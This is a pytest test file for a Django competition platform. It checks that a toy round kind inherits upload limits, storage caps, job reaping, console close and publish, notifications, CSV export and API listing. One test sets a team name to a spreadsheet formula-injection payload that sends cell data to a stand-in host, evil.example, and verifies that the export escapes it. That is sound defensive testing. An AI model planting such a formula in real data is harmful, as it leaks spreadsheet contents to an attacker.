"""A new round kind gets the core's guarantees with no change to the core: the toy game of
``tests/kinds/toy/`` (its own folder) is added by one registration line, then gets the
upload pipeline (size, daily limit, failed-upload cap, per-team storage over every kind,
numbering, the file kept with its SHA-256, scoring as a job the reaper watches), the
console's create/close/publish with their confirmation, publishing that closes the phases
and tells the participants, the spreadsheet-safe CSV export and the API listing."""

import datetime as dt
import hashlib
from unittest import mock

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from pwscup.competitions.models import Round
from pwscup.kinds import kind_of
from pwscup.notifications.models import Notification
from pwscup.submissions.services.maintenance import jobs_reap
from tests.kinds.toy import api, archive, bundle, console, views
from tests.kinds.toy import services as toy_services
from tests.kinds.toy.kind import ToyGameKind
from tests.kinds.toy.models import ToyRound, ToyUpload
from tests.kinds.toy.player import PLAYER
from tests.pwscup.factories import scored
from tests.support import build_world

pytestmark = pytest.mark.django_db


@pytest.fixture
def world(db):
    return build_world()


@pytest.fixture
def toy_game(db):
    PLAYER.install()
    yield
    PLAYER.uninstall()


@pytest.fixture
def toy_round(client, world, toy_game):
    """Created through the toy's console page, by an organizer (not a superuser)."""
    client.force_login(world.organizer)
    created = client.post(
        reverse("toygame_console:create", args=[world.competition.slug]),
        {"name": "Toy round", "slug": "toy", "daily_limit": "3"},
    )
    assert created.status_code == 302
    assert created["Location"] == reverse("console:round", args=[world.competition.slug, "toy"])
    client.logout()
    return Round.objects.get(competition=world.competition, slug="toy")


def _url(world, name):
    return reverse(name, args=[world.competition.slug, "toy"])


def _upload(client, world, content: bytes, letter="a"):
    client.force_login(world.users[letter])
    return client.post(
        _url(world, "toygame:toy-upload-send"),
        {"file": SimpleUploadedFile("mine.csv", content)},
        headers={"accept": "application/json"},
    )


def test_uploads_go_through_the_core_pipeline(client, world, toy_round, settings):
    first = _upload(client, world, b"a\nb\n")
    kept = ToyUpload.objects.get()
    assert first.status_code == 202 and first.json()["id"] == kept.pk
    assert (first.json()["number"], first.json()["status"]) == (1, "queued")
    assert kept.size == 4 and kept.sha256 == hashlib.sha256(b"a\nb\n").hexdigest()
    toy_services.toy_score(upload_id=kept.pk)  # what the worker runs
    kept.refresh_from_db()
    assert kept.status == "finished" and kept.score == 2.0
    # The round's daily limit (3 a day), counted by the core.
    assert _upload(client, world, b"x\n").json()["number"] == 2
    assert _upload(client, world, b"x\n").json()["number"] == 3
    refused = _upload(client, world, b"x\n")
    assert refused.status_code == 429 and "3 submissions for today" in refused.json()["error"]
    # The core's size cap and empty-file refusal.
    settings.PWSCUP_MAX_UPLOAD_BYTES = 10
    assert _upload(client, world, b"0123456789A", letter="b").status_code == 413
    assert _upload(client, world, b"", letter="b").status_code == 400
    assert ToyUpload.objects.filter(team=world.teams["b"]).count() == 0


def test_failed_uploads_and_storage_are_bounded_over_every_kind(client, world, toy_round, settings):
    settings.PWSCUP_MAX_FAILED_UPLOADS_PER_DAY = 2
    for _ in range(2):
        pk = ToyUpload.objects.get(number=_upload(client, world, b" ").json()["number"]).pk
        ToyUpload.objects.filter(pk=pk).update(status="failed")
    capped = _upload(client, world, b"a\n")
    assert capped.status_code == 429 and "2 failed uploads today" in capped.json()["error"]
    # Bytes kept per team count the first kind's uploads too.
    settings.PWSCUP_MAX_FAILED_UPLOADS_PER_DAY = 50
    first_kind = scored(world, "b")
    settings.PWSCUP_MAX_STORED_BYTES_PER_TEAM = first_kind.size + 5
    assert _upload(client, world, b"abcde", letter="b").status_code == 202
    full = _upload(client, world, b"f", letter="b")
    assert full.status_code == 413 and "does not fit" in full.json()["error"]


def test_the_reaper_resends_a_lost_toy_job(client, world, toy_round, settings):
    with mock.patch("pwscup.submissions.broker.job_send"):
        pk = ToyUpload.objects.get(number=_upload(client, world, b"a\n").json()["number"]).pk
    ToyUpload.objects.filter(pk=pk).update(queued_at=timezone.now() - dt.timedelta(hours=1))
    with mock.patch("pwscup.submissions.broker.job_send") as send:
        assert jobs_reap()["resent"] == 1
    assert mock.call(toy_services.SCORE_TOY, pk) in send.call_args_list


def test_console_close_and_publish_with_confirmation(client, world, toy_round):
    client.force_login(world.organizer)
    page = client.get(reverse("console:round", args=[world.competition.slug, "toy"]))
    assert page.status_code == 200
    assert b'data-testid="action-close"' in page.content
    assert b'data-testid="action-publish"' in page.content
    action = reverse("console:round_action", args=[world.competition.slug, "toy", "close"])
    confirm = client.get(action)
    assert confirm.status_code == 200 and b'data-testid="confirm-close"' in confirm.content
    assert toy_round.phases.get().is_open()  # a GET changes nothing
    assert client.post(action).status_code == 302
    assert not toy_round.phases.get().is_open()
    refused = _upload(client, world, b"late\n")
    assert refused.status_code == 403 and ToyUpload.objects.count() == 0
    publish = reverse("console:round_action", args=[world.competition.slug, "toy", "publish"])
    client.force_login(world.organizer)
    listed = reverse("console:competition", args=[world.competition.slug])
    assert "not published" in _results_cell(client.get(listed), "toy")
    assert client.post(publish).status_code == 302
    assert ToyRound.objects.get(round=toy_round).published
    told = Notification.objects.filter(user=world.users["a"], kind="results_published").get()
    assert told.url == reverse("round_tab", args=[world.competition.slug, "toy", "results"])
    # The console's list of rounds asks the kind (``RoundKind.results_published``).
    assert "not published" not in _results_cell(client.get(listed), "toy")
    assert "published" in _results_cell(client.get(listed), "toy")


def _results_cell(page, slug: str) -> str:
    html = page.content.decode()
    start = html.index(f'data-testid="console-round-results-{slug}"')
    return html[start : html.index("</td>", start)]


def test_a_member_cannot_run_console_actions(client, world, toy_round):
    client.force_login(world.users["a"])
    action = reverse("console:round_action", args=[world.competition.slug, "toy", "close"])
    assert client.post(action).status_code in (403, 404)
    assert toy_round.phases.get().is_open()


def test_export_and_api_listing(client, world, toy_round):
    world.teams["a"].name = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    world.teams["a"].save()
    pk = ToyUpload.objects.get(number=_upload(client, world, b"a\n").json()["number"]).pk
    toy_services.toy_score(upload_id=pk)
    # The core's CSV of the kind's standings, hidden from a team until they are published.
    standings = _url(world, "round_standings_csv")
    assert client.get(standings).status_code == 404
    client.force_login(world.organizer)
    csv = client.get(standings).content.decode()
    assert csv.startswith("team,score") and "'=HYPERLINK" in csv and "\n=HYPERLINK" not in csv
    assert client.get(standings + "?table=2").status_code == 404
    listed = client.get(reverse("api:competition-detail", args=[world.competition.slug]))
    assert listed.status_code == 200
    rounds = {r["slug"]: r for r in listed.json()["rounds"]}
    assert rounds["toy"]["kind"] == "toygame"


def test_a_kind_finds_its_modules_by_their_names_in_its_package():
    """``pwscup.kinds.layout``: the toy (``tests/kinds/toy/kind.py``) declares no module; the
    core finds those beside it by their names, and ``None`` where there is none."""
    toy = ToyGameKind()
    assert (toy.views_module, toy.api_module, toy.console_module) == (views, api, console)
    assert (toy.bundle_module, toy.archive_module) == (bundle, archive)
    assert toy.standings_module is None and toy.demo_module is None
    # Its declared upload (in ``api.py``) finds the toy's selectors and services the same way.
    assert api.SUBMISSION_TYPES[0].services_module is toy_services


def test_the_leaderboard_link_of_a_kind_without_a_leaderboard_page_is_its_results_tab(
    world, toy_round
):
    """The toy writes no ``leaderboard_url`` and no page named ``leaderboard``: the link is
    the round's Results tab, where the core shows its standings."""
    results = reverse("round_tab", args=[world.competition.slug, "toy", "results"])
    assert kind_of(toy_round).leaderboard_url(toy_round) == results
